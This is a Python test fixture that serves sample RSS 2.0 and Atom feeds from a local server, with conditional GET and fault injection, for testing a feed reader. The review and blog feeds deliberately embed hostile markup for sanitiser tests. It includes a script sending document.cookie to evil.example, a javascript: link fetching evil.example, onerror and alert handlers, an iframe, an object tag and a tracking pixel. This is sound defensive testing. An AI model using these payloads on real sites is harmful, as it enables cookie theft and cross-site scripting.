"""A feed site on 127.0.0.1: realistic RSS 2.0 and Atom 1.0 documents, conditional GET, and faults on demand.

The documents are written the way real review sites and blogs publish: RSS 2.0 with ``dc:creator`` and CDATA
descriptions full of markup (including the hostile kind: scripts, ``javascript:`` links, tracking pixels), an Atom
1.0 blog with relative links and HTML titles, and a small site's feed with no dates at all. Every request is
recorded, headers included, so tests assert on what Tend sent as well as what it made of the answer.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.utils import formatdate

import pytest

from tests.connectors.loopback import Answer, LoopbackServer

REVIEWS_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
  <channel>
    <title>Crumb &amp; Co Bakery Reviews | ReviewHub</title>
    <link>https://reviews.example/biz/crumb-and-co</link>
    <atom:link href="https://reviews.example/biz/crumb-and-co/feed.rss" rel="self" type="application/rss+xml"/>
    <description>Latest customer reviews of Crumb &amp; Co Bakery, Lyon</description>
    <language>en-gb</language>
    <lastBuildDate>Wed, 25 Nov 2026 08:30:00 +0000</lastBuildDate>
    <ttl>60</ttl>
    <item>
      <title>★★☆☆☆ Cold croissants and a long wait</title>
      <link>https://reviews.example/reviews/88213</link>
      <guid isPermaLink="false">reviewhub-88213</guid>
      <dc:creator>Martine L.</dc:creator>
      <pubDate>Wed, 25 Nov 2026 08:12:00 +0100</pubDate>
      <description><![CDATA[<p>Waited <strong>25 minutes</strong> on Saturday and the croissants were cold.</p>
<p>Staff were friendly though. <a href="https://reviews.example/reviews/88213#comments">2 comments</a></p>
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<img src="https://pixel.tracker.example/open.gif?u=88213" width="1" height="1">]]></description>
    </item>
    <item>
      <title>★★★★★ Best sourdough in town</title>
      <link>https://reviews.example/reviews/88190</link>
      <guid isPermaLink="false">reviewhub-88190</guid>
      <dc:creator>Yusuf K.</dc:creator>
      <pubDate>Tue, 24 Nov 2026 17:40:00 GMT</pubDate>
      <description><![CDATA[<p>The seeded sourdough is <em>perfect</em>. <a href="javascript:alert('owned')">Claim your free loaf</a></p>
<p><img src="https://cdn.reviews.example/u/88190/photo.jpg" alt="a sourdough loaf" onerror="alert(1)"></p>
<iframe src="https://ads.example/frame"></iframe><style>body{display:none}</style>]]></description>
    </item>
    <item>
      <title>★★★☆☆ &lt;b&gt;Fine&lt;/b&gt; but pricey</title>
      <link>javascript:alert('link')</link>
      <guid isPermaLink="false">reviewhub-87002</guid>
      <dc:creator>Anon</dc:creator>
      <pubDate>Sun, 01 Nov 2026 09:00:00 GMT</pubDate>
      <description>Good bread, but 6 euros for a loaf is a lot.</description>
    </item>
  </channel>
</rss>
"""

BLOG_ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
  <title type="html">Flour &amp;amp; Water &amp;mdash; a Lyon food blog</title>
  <subtitle>Bakeries, markets and the odd recipe</subtitle>
  <link href="/" rel="alternate" type="text/html"/>
  <link href="/feed.atom" rel="self" type="application/atom+xml"/>
  <id>tag:flourandwater.example,2019:blog</id>
  <updated>2026-11-24T21:05:00+01:00</updated>
  <generator uri="https://gohugo.io/" version="0.139.0">Hugo</generator>
  <entry>
    <title>Five bakeries worth the queue</title>
    <link href="/2026/11/five-bakeries/" rel="alternate" type="text/html"/>
    <id>tag:flourandwater.example,2026-11-24:/2026/11/five-bakeries/</id>
    <published>2026-11-24T21:00:00+01:00</published>
    <updated>2026-11-24T21:05:00+01:00</updated>
    <author><name>Camille Roux</name><uri>https://flourandwater.example/about/</uri></author>
    <summary type="html">&lt;p&gt;Number three, &lt;a href="https://crumb.example/"&gt;Crumb &amp;amp; Co&lt;/a&gt;, has the flakiest croissant I have had this year.&lt;/p&gt;&lt;p&gt;&lt;a href="javascript:void(fetch('https://evil.example'))" onclick="steal()"&gt;Read more&lt;/a&gt;&lt;/p&gt;</summary>
    <content type="html">&lt;p&gt;The whole article, far too long to show.&lt;/p&gt;</content>
  </entry>
  <entry>
    <title type="html">Market day &lt;em&gt;notes&lt;/em&gt;</title>
    <link href="/2026/11/market-notes/" rel="alternate" type="text/html"/>
    <id>tag:flourandwater.example,2026-11-20:/2026/11/market-notes/</id>
    <updated>2026-11-20T08:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Croix-Rousse market, stall by stall.</p><object data="https://evil.example/x.swf"></object></div></content>
  </entry>
</feed>
"""

UNDATED_RSS = """<?xml version="1.0" encoding="ISO-8859-1"?>
<rss version="2.0">
  <channel>
    <title>Le Petit Four - livre d'or</title>
    <link>https://petitfour.example/</link>
    <description>What visitors wrote in our guestbook</description>
    <item>
      <title>Merci pour le gâteau d'anniversaire !</title>
      <link>https://petitfour.example/guestbook#e41</link>
      <description>Tout le monde a adoré. Élodie</description>
    </item>
    <item>
      <title>Are you open on Christmas Eve?</title>
      <description>&lt;p&gt;Asking for the whole office.&lt;/p&gt;</description>
    </item>
  </channel>
</rss>
""".encode("iso-8859-1")

EMPTY_RSS = """<?xml version="1.0"?><rss version="2.0"><channel><title>Nothing yet</title>
<link>https://quiet.example/</link><description>No reviews so far</description></channel></rss>"""

HTML_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Crumb &amp; Co reviews</title>
<link rel="stylesheet" href="/style.css">
<link rel="alternate" type="application/rss+xml" title="Reviews" href="/reviews.rss">
</head><body><h1>Crumb &amp; Co</h1><p>4.1 stars from 212 reviews</p></body></html>"""

PLAIN_HTML_PAGE = """<!doctype html><html><head><title>Oops</title></head><body><p>Page not found, but we said 200.</p>
</body></html>"""

GARBAGE = b"\x00\x9f\x92\x96 this is not { a feed ] at all \xff\xfe<<<"

DOCUMENTS: dict[str, tuple[bytes, str]] = {
    "/reviews.rss": (REVIEWS_RSS.encode(), "application/rss+xml; charset=utf-8"),
    "/feed.atom": (BLOG_ATOM.encode(), "application/atom+xml"),
    "/guestbook.rss": (UNDATED_RSS, "text/xml"),
    "/empty.rss": (EMPTY_RSS.encode(), "application/rss+xml"),
    "/page.html": (HTML_PAGE.encode(), "text/html; charset=utf-8"),
    "/oops.html": (PLAIN_HTML_PAGE.encode(), "text/html"),
    "/garbage": (GARBAGE, "application/octet-stream"),
}


@dataclass(frozen=True)
class Received:
    method: str
    path: str
    headers: dict[str, str]  # lower-case names


@dataclass
class Fault:
    """What a path does instead of serving its document. ``times`` None means every time."""

    status: int = 500
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    delay: float = 0.0
    times: int | None = None


@dataclass
class Document:
    body: bytes
    content_type: str
    etag: str
    last_modified: str
    gzip: bool = False  # ``body`` is stored gzip-compressed and served with Content-Encoding: gzip


class FeedSite(LoopbackServer):
    """Serves ``documents`` with ETag and Last-Modified; ``fault(path, ...)`` makes a path misbehave."""

    thread_name = "feed-site"
    methods = ("GET",)

    def __init__(self) -> None:
        super().__init__()
        self.documents: dict[str, Document] = {}
        self.faults: dict[str, Fault] = {}
        self._version = 0
        for path, (body, kind) in DOCUMENTS.items():
            self.publish(path, body, kind)

    def at(self, path: str) -> str:
        return self.url + path

    def publish(self, path: str, body: bytes | str, content_type: str = "application/rss+xml",
                *, gzip_body: bool = False) -> None:
        """Put a (new version of a) document at ``path``: a new ETag and Last-Modified, as a real site does."""
        with self.lock:
            self._version += 1
            raw = body.encode() if isinstance(body, str) else body
            if gzip_body:
                raw = gzip.compress(raw, compresslevel=9)  # once, here: a bomb stays cheap to serve
            self.documents[path] = Document(raw, content_type, f'"v{self._version}-{len(raw)}"',
                                            formatdate(1_795_000_000 + self._version * 60, usegmt=True),
                                            gzip_body)

    def fault(self, path: str, fault: Fault) -> None:
        with self.lock:
            self.faults[path] = fault

    def requests_to(self, path: str) -> list[Received]:
        return [r for r in self.requests if r.path == path]

    def take_fault(self, path: str) -> Fault | None:
        with self.lock:
            fault = self.faults.get(path)
            if fault is None:
                return None
            if fault.times is not None:
                fault.times -= 1
                if fault.times <= 0:
                    del self.faults[path]
            return fault

    def record(self, method: str, target: str, headers: dict[str, str], body: bytes) -> Received:
        return Received(method, target.split("?", 1)[0], headers)

    def answer(self, seen: Received) -> Answer:
        fault = self.take_fault(seen.path)
        if fault is not None:
            return Answer(fault.status, body=fault.body, headers=fault.headers, delay=fault.delay)
        document = self.documents.get(seen.path)
        if document is None:
            return Answer(404, body=b"<html><body>Not found</body></html>", headers={"Content-Type": "text/html"})
        validators = {"ETag": document.etag, "Last-Modified": document.last_modified}
        if seen.headers.get("if-none-match") == document.etag or (
                seen.headers.get("if-none-match") is None
                and seen.headers.get("if-modified-since") == document.last_modified):
            return Answer(304, headers=validators)
        headers = {"Content-Type": document.content_type, **validators}
        if document.gzip:
            headers["Content-Encoding"] = "gzip"
        return Answer(200, body=document.body, headers=headers)


@pytest.fixture
def feed_site() -> Iterator[FeedSite]:
    with FeedSite() as site:
        yield site
